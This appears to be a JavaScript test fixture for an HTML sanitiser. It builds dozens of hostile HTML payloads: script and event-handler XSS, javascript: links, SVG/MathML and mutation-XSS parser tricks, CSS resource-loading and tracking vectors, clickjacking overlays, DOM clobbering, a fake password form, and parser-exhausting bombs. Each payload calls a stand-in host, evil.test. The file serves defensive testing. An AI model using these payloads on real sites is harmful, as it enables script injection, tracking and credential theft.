// Hostile messages for those of the classes W1 to W19 (README.md) that come as HTML. Each says how it would tell the tracker that it
// succeeded: by its number in the path of whatever it loads, or by running `R` (a script that tells it so).

/** Everybody else's host, as message number `n` names it. */
const host = (n) => `http://evil.test/${n}`;

/** A script that tells the tracker that it ran, without quotation marks. */
const ran = (n) => `fetch(String.fromCharCode(${[...`${host(n)}/ran.js`].map((c) => c.charCodeAt(0)).join()}))`;

const entity = (text) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');

/**
 * Class, name, and the HTML of message `n`: T is the tracker's address, R the script. `harm` says what it does where nothing is done
 * about it, and control.test.mjs holds each to it: `shown`, it tells the tracker by being shown (when nothing else is said);
 * `clicked`, when its `#go` is clicked; `reread`, when it is written from the tree and read again, as a careless cleaner would; `covers`, `grows`, `clobbers`: it changes the look, the size or the names of the page
 * that it stands in; null: nothing in this browser, and `why`.
 */
const PAYLOADS = [
  // W1: what runs
  ['W1', 'script element', (T, R) => `<p>x<script>${R}</script>`],
  ['W1', 'script of another host', (T) => `<script src="${T}/a.js"></script>`],
  ['W1', 'module', (T) => `<script type=module src="${T}/a.mjs"></script>`],
  ['W1', 'image handler', (T, R) => `<img src=x: onerror="${R}">`],
  ['W1', 'handler behind a slash', (T, R) => `<img/src="x:"/onerror=${R}>`],
  ['W1', 'body handler', (T, R) => `<body onload="${R}">x`],
  ['W1', 'handler in entities', (T, R) => `<img src=x: onerror="${entity(R)}">`],
  ['W1', 'focus handler', (T, R) => `<input autofocus onfocus="${R}">`],
  ['W1', 'details toggle', (T, R) => `<details open ontoggle="${R}"><summary>x</summary></details>`],
  ['W1', 'animation handler', (T, R) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${R}">x</b>`],
  ['W1', 'marquee handler', (T, R) => `<marquee onstart="${R}">x</marquee>`, { harm: null, why: 'the marquee of this browser tells nobody that it starts' }],
  ['W1', 'video source handler', (T, R) => `<video><source onerror="${R}" src=x:></video>`],
  ['W1', 'frame of script', (T, R) => `<iframe src="javascript:${R}"></iframe>`],
  ['W1', 'frame of script in tabs', (T, R) => `<iframe src=" &#9;java&#10;script:${R}"></iframe>`],
  ['W1', 'frame of markup', (T, R) => `<iframe srcdoc="${entity(`<script>${R}</script>`)}"></iframe>`],
  ['W1', 'data page in an object', (T) => `<object data="data:text/html,${encodeURIComponent(`<img src=${T}/o.png>`)}"></object>`],
  ['W1', 'embedded page', (T) => `<embed src="${T}/a.html">`],
  ['W1', 'meta refresh to script', (T, R) => `<meta http-equiv=refresh content="0;url=javascript:${R}"><link rel=stylesheet href=${T}/a.css>`],
  ['W1', 'javascript link', (T, R) => `<a id=go href="javascript:${R}">click</a>`, { harm: 'clicked' }],
  ['W1', 'link in odd letters', (T, R) => `<a id=go href="&#1;JaVaScRiPt&colon;${R}">click</a>`, { harm: 'clicked' }],
  // W2: SVG and MathML
  ['W2', 'svg load', (T, R) => `<svg onload="${R}"></svg>`],
  ['W2', 'svg script', (T, R) => `<svg><script>${R}</script></svg>`],
  ['W2', 'svg image', (T) => `<svg><image href="${T}/i.png" width=9 height=9 /></svg>`],
  ['W2', 'svg feImage', (T) => `<svg width=9 height=9><filter id=f><feImage href="${T}/f.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`],
  ['W2', 'svg use', (T) => `<svg><use href="${T}/u.svg#a"/></svg><img src="${T}/u.png">`],
  ['W2', 'animated link', (T, R) => `<svg><a id=go><animate attributeName=href values="javascript:${R}"/><text y=20>x</text></a></svg>`, { harm: 'clicked' }],
  ['W2', 'set on href', (T, R) => `<svg><a id=go><set attributeName=href to="javascript:${R}"/><text y=20>x</text></a></svg>`, { harm: 'clicked' }],
  ['W2', 'set on href with a blank', (T, R) => `<svg><a id=go><set attributeName="href " to="javascript:${R}"/><text y=20>x</text></a></svg>`, { harm: null, why: 'this browser trims no name of an attribute any more' }],
  ['W2', 'animation begins', (T, R) => `<svg><animate onbegin="${R}" attributeName=x dur=1s /></svg>`],
  ['W2', 'foreign object', (T, R) => `<svg><foreignObject><img src=x: onerror="${R}"></foreignObject></svg>`],
  ['W2', 'math link', (T) => `<math><mtext><img src="${T}/m.png"></mtext></math>`],
  // W3: where parsers differ
  ['W3', 'cdata in html', (T, R) => `<![CDATA[><img src=x: onerror="${R}">]]>`],
  ['W3', 'noscript', (T, R) => `<noscript><p title="</noscript><img src=x: onerror='${R}'>"></noscript>`],
  ['W3', 'style in math', (T, R) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror='${R}'&gt;" src="${T}/z.png">`],
  ['W3', 'style in svg', (T, R) => `<svg></p><style><a title="</style><img src=x: onerror='${R}'>">`],
  ['W3', 'annotation-xml', (T, R) => `<math><annotation-xml encoding="text/xml"><style><img src=x: onerror="${R}"></style></annotation-xml></math>`],
  ['W3', 'textarea', (T, R) => `<textarea><img title="</textarea><img src=x: onerror='${R}'>"></textarea>`],
  ['W3', 'comment that ends early', (T, R) => `<!--><img src=x: onerror="${R}">-->`],
  ['W3', 'form in form in table', (T, R) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${R}">`, { harm: 'reread' }],
  ['W3', 'template', (T) => `<template><img src="${T}/t.png"></template><img src="${T}/t2.png">`],
  ['W3', 'select', (T, R) => `<select><style></select><img src=x: onerror="${R}"></style>`, { harm: null, why: 'only a parser from before 2025, which knows no style in a select, lets the image out' }],
  ['W3', 'nul and unfinished tags', (T, R) => `<im\0g src=a><img src="x:"\0 onerror=${R}>x<b`],
  // W5: what loads
  ['W5', 'image', (T) => `<img src="${T}/a.png">`],
  ['W5', 'image set of sources', (T) => `<img srcset="${T}/b.png 1x, ${T}/c.png 2x">`],
  ['W5', 'picture', (T) => `<picture><source srcset="${T}/d.png"><img></picture>`],
  ['W5', 'image of an input', (T) => `<input type=image src="${T}/e.png">`],
  ['W5', 'poster and track', (T) => `<video poster="${T}/f.png" autoplay><source src="${T}/f.mp4"></video>`],
  ['W5', 'audio', (T) => `<audio src="${T}/g.ogg" preload=auto></audio>`],
  ['W5', 'background attributes', (T) => `<body background="${T}/h.png"><table background="${T}/h2.png"><tr><td>x</table>`],
  ['W5', 'style sheet', (T) => `<link rel=stylesheet href="${T}/i.css">`],
  ['W5', 'import', (T) => `<style>@import "${T}/j.css";</style>`],
  ['W5', 'import in escapes', (T) => `<style>@\\69mport url(${T}/k.css);</style>`],
  ['W5', 'background by style', (T) => `<div style="background:url(${T}/l.png)">x</div>`],
  ['W5', 'background in escapes', (T) => `<div style="background:\\75\\72\\6c(${T}/m.png)">x</div>`],
  ['W5', 'url that does not end', (T) => `<div style="background:url( '${T}/n.png'">x</div>`],
  ['W5', 'image-set', (T) => `<div style="background-image:image-set('${T}/o.png' 1x)">x</div>`],
  ['W5', 'cross-fade', (T) => `<div style="background-image:-webkit-cross-fade(url(${T}/p.png), url(${T}/p2.png), 50%)">x</div>`],
  ['W5', 'variable', (T) => `<div style="--a:url(${T}/q.png);background:var(--a)">x</div>`],
  ['W5', 'variable that is not set', (T) => `<div style="background:var(--none, url(${T}/r.png))">x</div>`],
  ['W5', 'font', (T) => `<style>@font-face{font-family:f;src:url(${T}/s.woff2)}b{font-family:f}</style><b>x</b>`],
  ['W5', 'list image', (T) => `<ul style="list-style:url(${T}/t.png)"><li>x</ul>`],
  ['W5', 'border image', (T) => `<div style="border:9px solid;border-image:url(${T}/u.png) 9">x</div>`],
  ['W5', 'content', (T) => `<style>p::before{content:url(${T}/v.png)}</style><p>x`],
  ['W5', 'cursor and mask', (T) => `<div style="cursor:url(${T}/w.png),auto;-webkit-mask-image:url(${T}/w2.png);mask-image:url(${T}/w3.png)">xxx</div>`],
  ['W5', 'shape and filter', (T) => `<div style="float:left;width:9px;height:9px;shape-outside:url(${T}/x.png);filter:url(${T}/x.svg#a)">x</div>`],
  ['W5', 'preconnect and prefetch', (T) => `<link rel=preconnect href="http://evil.test"><link rel=prefetch href="${T}/y.png"><link rel=preload as=image href="${T}/y2.png"><link rel=icon href="${T}/y3.png">`],
  ['W5', 'frame', (T) => `<iframe src="${T}/z.html"></iframe>`],
  ['W5', 'frameset', (T) => `<frameset><frame src="${T}/aa.html"></frameset>`],
  ['W5', 'base and relative image', (T) => `<base href="${T}/"><img src="ab.png">`],
  ['W5', 'image without scheme', (T) => `<img src="//evil.test${new URL(T).pathname}/ac.png">`],
  ['W5', 'image with backslashes', (T) => `<img src="http:\\\\evil.test${new URL(T).pathname}/ad.png">`],
  ['W5', 'ping', (T) => `<a id=go href="#x" ping="${T}/ae">x</a>`, { harm: 'clicked' }],
  ['W5', 'refresh of the page', (T) => `<meta http-equiv=refresh content="0;url=${T}/af.html">`],
  ['W5', 'applet and background sound', (T) => `<applet code="${T}/ag.class"></applet><bgsound src="${T}/ag.wav"><img lowsrc="${T}/ag.png" dynsrc="${T}/ag.png">`, { harm: null, why: 'no browser of today knows them' }],
  ['W5', 'attribute selectors', (T) => `<style>a[href^="h"]{background:url(${T}/ah.png)}</style><a href="http://x">x</a>`],
  ['W5', 'media query', (T) => `<style>@media (min-width:1px){p{background:url(${T}/ai.png)}}</style><p>x`],
  ['W5', 'supports and layer', (T) => `<style>@layer a{@supports (color:red){p{background:url(${T}/aj.png)}}}</style><p>x`],
  // W6: what looks like something else
  ['W6', 'fixed over everything', (T) => `<div style="position:fixed !important;inset:-999px;z-index:2147483647;background:red">x</div>`, { harm: 'covers' }],
  ['W6', 'root and html', () => `<style>:root{position:fixed;top:-200px;background:red}html{transform:scale(9)}</style>x`, { harm: 'covers' }],
  ['W6', 'names of the document', () => `<form name=body><input name=location></form><img name=cookie id=documentElement><a id=defaultView name=parent>x</a>`, { harm: 'clobbers' }],
  ['W6', 'giant text', () => `<b style="font-size:99999px;line-height:99999">x</b><div style="width:99999999px;height:99999999px">x</div>`, { harm: 'grows' }],
  ['W6', 'form that asks for a password', (T) => `<form action="${T}/pw"><input name=p type=password value=x><button id=go>Sign in</button></form>`, { harm: 'clicked' }],
  // W4: what becomes markup when somebody makes links of texts that are clean
  ['W4', 'address with a quotation mark', (T, R) => `<p>http://x.test/&quot;onmouseover=&quot;${R}&quot; http://x.test/&lt;img src=x: onerror=${R}&gt;</p><img src="${T}/a.png">`],
  ['W4', 'address in an attribute', (T, R) => `<p title="http://x.test/ &gt;&lt;img src=x: onerror='${R}'&gt;">x</p><a href="http://x.test/&quot; onclick=&quot;${R}">http://y.test/</a><img src="${T}/b.png">`],
  ['W4', 'tags as text', (T, R) => `<pre>&lt;script&gt;${R}&lt;/script&gt; &lt;img src="${T}/c.png"&gt; &amp;lt;img src=x onerror=${R}&amp;gt;</pre><b style="background:url(${T}/d.png)">x</b>`],
  // W16, W19
  ['W16', 'navigates the top', (T, R) => `<a id=go target=_top href="javascript:${R}">x</a><base target=_top>`, { harm: 'clicked' }],
  ['W16', 'opens another place in the top', (T) => `<a id=go target=_top href="${T}/top.html">x</a>`, { harm: 'clicked' }],
  ['W19', 'a picture that counts readers', (T) => `<img src="${T}/receipt.png" width=1 height=1>`],
];

/** {number, kind, name, html, harm, why}; see PAYLOADS. */
export const messages = PAYLOADS.map(([kind, name, make, { harm = 'shown', why } = {}], number) => ({
  number,
  kind,
  name,
  html: make(host(number), ran(number)),
  harm,
  why,
}));

/** What exhausts: W15. Made here and not written out. */
export const bombs = [
  ['nested tags', '<div>'.repeat(100_000)],
  ['nested tables', '<table><tr><td>'.repeat(30_000)],
  ['formatting without end', `${Array.from({ length: 5_000 }, (_, n) => `<font size=${n}>`).join('')}${'<p>x'.repeat(5_000)}`],
  ['attributes', `<p ${Array.from({ length: 30_000 }, (_, n) => `a${n}=x`).join(' ')}>x`],
  ['one attribute', `<p style="${'color:red;'.repeat(100_000)}">x`],
  ['selectors', `<style>${'a,'.repeat(50_000)}b{color:red}</style>x`],
  ['open brackets', `<style>${'@media x{'.repeat(50_000)}</style>x`],
  ['images', '<img src=http://evil.test/bomb.png>'.repeat(20_000)],
  ['comments', '<!--'.repeat(100_000)],
  ['text', 'x <'.repeat(300_000)],
];
